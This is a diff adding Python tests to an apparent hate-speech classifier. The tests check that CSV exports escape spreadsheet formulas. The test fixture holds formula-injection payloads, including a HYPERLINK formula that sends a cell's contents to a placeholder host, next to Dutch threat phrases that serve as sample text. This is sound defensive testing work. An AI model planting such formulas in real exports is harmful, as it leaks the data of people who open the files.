@@ -313,3 +313,52 @@ def test_score_file_reports_non_text_values_as_bad_rows(tmp_path, model):
         score_file(src, tmp_path / "o2.csv", model=model, strict=True)
     assert info.value.line == 2
     assert not (tmp_path / "o2.csv").exists()
+
+
+FORMULAS = [
+    '=HYPERLINK("http://x.example/?q="&A1, "een kogel voor jou")',
+    "+kogel+1",
+    "-2+3 kogel",
+    "@SUM(1+1) kogel",
+    "\t=1+1 kogel",
+]
+
+
+def test_flagged_csv_neutralises_spreadsheet_formulas(tmp_path, model):
+    import csv
+
+    src, dst = tmp_path / "in.csv", tmp_path / "flagged.csv"
+    pd.DataFrame(
+        {"id": ["=1+2", "b", "c", "d", "e"], "text": FORMULAS, "n": [-1, 2, 3, 4, 5]}
+    ).to_csv(src, index=False)
+    flag_file(src, dst, model=model)
+    with dst.open(newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    assert len(rows) == len(FORMULAS)
+    assert sorted(r["text"] for r in rows) == sorted("'" + t for t in FORMULAS)
+    assert "'=1+2" in {r["id"] for r in rows}
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "@", "\t", "\r")), row
+    # the JSONL and Parquet outputs are data for programs: kept verbatim
+    flag_file(src, tmp_path / "flagged.jsonl", model=model)
+    assert set(read_table(tmp_path / "flagged.jsonl")["text"]) == set(FORMULAS)
+
+
+def test_scored_csv_is_machine_data_and_stays_verbatim(tmp_path, model):
+    src, dst = tmp_path / "in.csv", tmp_path / "scored.csv"
+    pd.DataFrame({"text": FORMULAS}).to_csv(src, index=False)
+    score_file(src, dst, model=model)
+    assert read_table(dst)["text"].tolist() == FORMULAS
+
+
+def test_spreadsheet_safe_leaves_numbers_and_plain_text():
+    from hatewatch.io import spreadsheet_safe
+
+    df = pd.DataFrame({"x": [-0.5, 1.0], "s": ["-3", "gewoon"], "=kolom": ["+a", None]})
+    out = spreadsheet_safe(df)
+    assert out["x"].tolist() == [-0.5, 1.0]
+    assert out["s"].tolist() == ["'-3", "gewoon"]
+    assert list(out.columns) == ["x", "s", "'=kolom"]
+    assert out["'=kolom"].tolist()[0] == "'+a" and pd.isna(out["'=kolom"].iloc[1])
+    assert df["s"].tolist() == ["-3", "gewoon"]  # input not modified
